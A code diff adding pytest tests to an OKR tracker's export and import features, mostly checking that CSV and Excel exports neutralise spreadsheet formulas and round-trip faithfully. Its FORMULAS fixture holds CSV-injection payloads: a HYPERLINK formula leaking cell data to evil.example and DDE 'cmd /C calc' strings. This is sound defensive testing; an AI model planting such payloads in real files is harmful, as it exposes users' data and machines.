@@ -537,6 +537,27 @@ def test_a_full_export_is_restored_only_into_an_empty_database(demo_path, db, or
     assert snapshot(db) == before
 
 
+def test_sign_in_bookkeeping_stays_on_its_server(tmp_path):
+    """Failed tries and the addresses people signed in from are this server's, not the
+    organisation's data: a full export leaves them out, and a new database where someone
+    already mistyped a password still counts as empty."""
+    from okrdata import auth
+
+    source = connect(tmp_path / "source.db")
+    load_demo(source)
+    with pytest.raises(ValidationError):
+        auth.sign_in(source, "admin@northwindlabs.example", "wrong password", client="10.0.0.1")
+    assert source["sign_in_failures"].count == 1
+    data = transfer.full_export(source, "json")
+    assert "sign_in_failures" not in json.loads(data)["tables"]
+    target = connect(tmp_path / "target.db")
+    migrate(target)
+    with pytest.raises(ValidationError):
+        auth.sign_in(target, "someone@example.com", "wrong password", client="10.0.0.2")
+    counts = transfer.full_import(target, data)
+    assert counts["checkins"] == source["checkins"].count
+
+
 def test_a_damaged_full_export_changes_nothing(empty, snapshot):
     source = connect(":memory:")
     migrate(source)
@@ -594,3 +615,129 @@ def test_the_documentation_names_every_column_of_both_layouts():
 )
 def test_a_download_is_named_with_letters_digits_and_hyphens_only(text, expected):
     assert transfer.file_slug(text, "cycle") == expected
+
+
+# --- formulas in cells ---------------------------------------------------------------------------
+
+FORMULAS = {
+    "hyperlink": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
+    "plus": "+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "quoted": "'=already quoted by hand",
+    "apostrophe": "'tis the season",
+    "number text": "-5",
+}
+"""Text a spreadsheet program would run as a formula (OWASP's CSV injection), or that looks
+like the export's own escape, or like a number."""
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def hostile_okrs(db) -> dict[str, int]:
+    """An organisation with a formula in every text field the OKR and check-in layouts carry,
+    and negative numbers; returns the cycle id."""
+    admin = writes.add_person(db, "Ada Admin", "=ada@evil.example", role="admin")
+    owner = writes.add_person(db, "-Owen", "+owen@evil.example", role="lead")
+    top = writes.add_unit(db, FORMULAS["hyperlink"], lead_id=admin)
+    writes.add_unit(db, "@empty unit", parent_id=top)
+    team = writes.add_unit(db, FORMULAS["plus"], parent_id=top, lead_id=owner)
+    cycle = writes.add_cycle(db, "=1+1", "2026-01-01", "2026-03-31", state="active")
+    parent = writes.add_objective(db, cycle, top, FORMULAS["hyperlink"], description=FORMULAS["minus"],
+                                  owner_id=admin)
+    ids = {"cycle": cycle}
+    for i, (name, text) in enumerate(FORMULAS.items()):
+        obj = writes.add_objective(db, cycle, team, text, description=FORMULAS["at"], owner_id=owner,
+                                   parent_objective_id=parent)
+        kr = writes.add_key_result(db, obj, f"{text}", "increase", -5, 10 + i, unit_label="=%", owner_id=owner)
+        writes.add_checkin(db, kr, "2026-01-10", -2, 4, FORMULAS["minus"], author_id=admin)
+        # The latest check-in's author is the owner's, as the OKR layout (with no author) gives it back.
+        writes.add_checkin(db, kr, "2026-01-20", -1.5, 6, text, author_id=owner)
+    writes.add_key_result(db, parent, FORMULAS["quoted"], "decrease", 10, -5, owner_id=admin)
+    return ids
+
+
+def csv_cells(data: bytes) -> list[str]:
+    import csv
+
+    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]
+
+
+def test_a_csv_export_runs_no_formula_when_opened_and_keeps_numbers_numbers(db):
+    ids = hostile_okrs(db)
+    for frame in (transfer.export_okrs(db, ids["cycle"]), transfer.export_checkins(db, ids["cycle"])):
+        cells = csv_cells(transfer.to_csv_bytes(frame))
+        texts = [c for c in cells if c and c[0] in DANGEROUS]
+        assert texts and all(c in ("-5", "-2", "-1.5") for c in texts), texts
+        assert any(c.startswith("'=") for c in cells)
+
+
+def test_an_excel_export_holds_text_as_text_and_numbers_as_numbers(db):
+    ids = hostile_okrs(db)
+    book = openpyxl.load_workbook(io.BytesIO(transfer.export_okrs_xlsx(db, ids["cycle"])))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert cells
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell in the export"
+    texts = [c for c in cells if isinstance(c.value, str)]
+    assert all(c.data_type in ("s", "inlineStr") for c in texts)
+    assert not [c.value for c in texts if c.value[0] in DANGEROUS and c.value != "-5"]
+    numbers = {c.value for c in cells if isinstance(c.value, (int, float)) and c.value < 0}
+    assert {-5, -2, -1.5} <= numbers
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_export_import_export_is_faithful_for_formulas_in_every_text_field(db, fmt):
+    ids = hostile_okrs(db)
+    first = transfer.export_okrs(db, ids["cycle"])
+    history = transfer.export_checkins(db, ids["cycle"])
+    write = transfer.to_csv_bytes if fmt == "csv" else transfer.to_xlsx_bytes
+    fresh = connect(":memory:")
+    migrate(fresh)
+    report = transfer.import_okrs(fresh, transfer.read_table(write(first), f"okrs.{fmt}"), today=dt.date(2026, 1, 25))
+    assert report.counts["objectives"] == len(FORMULAS) + 1
+    assert report.counts["key_results"] == len(FORMULAS) + 1
+    transfer.import_okrs(fresh, transfer.read_table(write(history), f"checkins.{fmt}"))
+    cycle = int(queries.cycles(fresh).iloc[0]["id"])
+    pd.testing.assert_frame_equal(first, transfer.export_okrs(fresh, cycle))
+    pd.testing.assert_frame_equal(history, transfer.export_checkins(fresh, cycle))
+
+
+def test_the_excel_round_trip_equals_the_csv_one(db):
+    ids = hostile_okrs(db)
+    again = {}
+    for fmt, data in (("csv", transfer.export_okrs_csv(db, ids["cycle"])),
+                      ("xlsx", transfer.export_okrs_xlsx(db, ids["cycle"]))):
+        fresh = connect(":memory:")
+        migrate(fresh)
+        transfer.import_okrs(fresh, transfer.read_table(data, f"okrs.{fmt}"), today=dt.date(2026, 1, 25))
+        again[fmt] = transfer.export_okrs(fresh, int(queries.cycles(fresh).iloc[0]["id"]))
+    pd.testing.assert_frame_equal(again["csv"], again["xlsx"])
+
+
+@pytest.mark.parametrize("text", [*FORMULAS.values(), "\tTab", "\rReturn", "''", "'", "=", "plain", "", "+5", "1e5",
+                                  "-0.5", "-.5", "- 5", "-5 EUR", "'-5"])
+def test_the_cell_escape_is_undone_exactly_by_the_import(text):
+    written = transfer.neutralise_cell(text)
+    assert not written or written[0] not in DANGEROUS or text in ("-5", "+5", "-0.5", "-.5")
+    assert transfer.unneutralise_cell(written) == text
+
+
+@pytest.mark.parametrize("value", [-5, -1.5, 0, 3, None, dt.date(2026, 1, 1)])
+def test_numbers_and_dates_are_not_escaped(value):
+    assert transfer.neutralise_cell(value) == value
+
+
+def test_a_hand_made_sheet_may_quote_a_formula_the_excel_way():
+    t = table("Cycle,Unit,Objective,Key result\n2026 Q1,Acme,'=Grow,'+KR one\n")
+    assert (t.iloc[0]["Objective"], t.iloc[0]["Key result"]) == ("=Grow", "+KR one")
+
+
+def test_the_full_exports_csv_files_run_no_formula_and_restore_exactly(db, snapshot):
+    hostile_okrs(db)
+    data = transfer.full_export(db, "zip")
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        cells = [c for name in zf.namelist() if name.endswith(".csv") for c in csv_cells(zf.read(name))]
+    assert not [c for c in cells if c and c[0] in ("=", "@", "+") and c != "+5"]
+    target = connect(":memory:")
+    transfer.full_import(target, data)
+    assert {k: v for k, v in snapshot(target).items() if k != "_migrations"} == {
+        k: v for k, v in snapshot(db).items() if k != "_migrations"}
